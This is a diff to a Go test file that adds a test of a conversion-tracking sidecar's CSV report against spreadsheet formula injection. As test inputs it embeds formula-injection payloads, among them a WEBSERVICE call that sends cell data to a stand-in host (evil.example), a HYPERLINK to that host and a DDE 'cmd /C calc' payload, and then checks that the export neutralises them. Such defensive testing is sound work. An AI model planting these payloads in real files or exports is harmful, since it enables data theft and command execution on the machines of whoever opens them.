@@ -1,6 +1,7 @@
 package main
 
 import (
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"io"
@@ -156,3 +157,69 @@ func TestThePHPExampleBehindTheSidecarSendsNoAddressTheVisitorChose(t *testing.T
 		}
 	}
 }
+
+// The reconciliation CSV is safe in a spreadsheet of any locale: every
+// field quoted, and no cell, split on , ; | or tab, starts a formula,
+// whether a visitor's conversion id or GLP Winner's own ids carried it.
+func TestTheCSVStartsNoFormulaWhateverTheSeparatorAndQuotesEveryField(t *testing.T) {
+	t.Parallel()
+	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		w.WriteHeader(http.StatusCreated)
+		io.WriteString(w, `{"status":"ok","conversion_id":"G-1;=HYPERLINK(\"http://evil.example\")","glp_click_id":"c|@SUM(1)"}`)
+	}))
+	t.Cleanup(up.Close)
+	cfg := stackConfig
+	cfg.APIURL, cfg.DBPath = up.URL, filepath.Join(t.TempDir(), "outbox.db")
+	m := serveInProcess(t, cfg)
+	public, admin := "http://"+m.PublicAddr(), "http://"+m.AdminAddr()
+	for i, body := range []string{
+		`{"glpClickId":"csv-1|=1+1","conversion_id":"ORD-1;=WEBSERVICE(\"http://evil.example/?\"&A1);"}`,
+		`{"glpClickId":"csv-2","conversion_id":"x, +cmd|' /C calc'!A0"}`,
+		`{"glpClickId":"csv-3","conversion_id":"a| \"-2+3"}`,
+	} {
+		status, out, _ := send(t, "POST", public+"/glp-s2s-conversion", server, body)
+		if status != http.StatusAccepted {
+			t.Fatalf("conversion %d: %d %v", i, status, out)
+		}
+		stackOf(public, admin).settled(t, out["event_id"].(string))
+	}
+	day := time.Now().UTC().Format("2006-01-02")
+	status, _, csvText := get(t, admin+"/admin/api/report/conversions.csv?from="+day+"&to="+day, nil)
+	if status != http.StatusOK {
+		t.Fatalf("the CSV: %d %s", status, csvText)
+	}
+	if !strings.Contains(csvText, "WEBSERVICE") || !strings.Contains(csvText, "HYPERLINK") {
+		t.Fatalf("the CSV lacks the values under test:\n%s", csvText)
+	}
+	quoted := regexp.MustCompile(`^"([^"]|"")*"(,"([^"]|"")*")*$`)
+	for _, line := range strings.Split(strings.TrimSuffix(csvText, "\n"), "\n") {
+		if !quoted.MatchString(line) {
+			t.Errorf("a line with a field not quoted: %s", line)
+		}
+	}
+	for _, sep := range []rune{',', ';', '|', '\t'} {
+		r := csv.NewReader(strings.NewReader(csvText))
+		r.Comma, r.LazyQuotes, r.FieldsPerRecord = sep, true, -1
+		records, err := r.ReadAll()
+		if err != nil {
+			t.Fatalf("split on %q: %v", sep, err)
+		}
+		// A spreadsheet may honour the quotes, or split each line on
+		// the separator whatever they say: both ways, no cell may start
+		// a formula.
+		for _, line := range strings.Split(csvText, "\n") {
+			records = append(records, strings.Split(line, string(sep)))
+		}
+		for _, rec := range records {
+			for _, cell := range rec {
+				if c := strings.TrimLeft(cell, ` "`); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+					t.Errorf("split on %q, a cell starts a formula: %q", sep, cell)
+				}
+			}
+		}
+	}
+}
+
+// stackOf is a stack of a sidecar's two listeners, for its helpers.
+func stackOf(public, admin string) stack { return stack{public: public, admin: admin} }
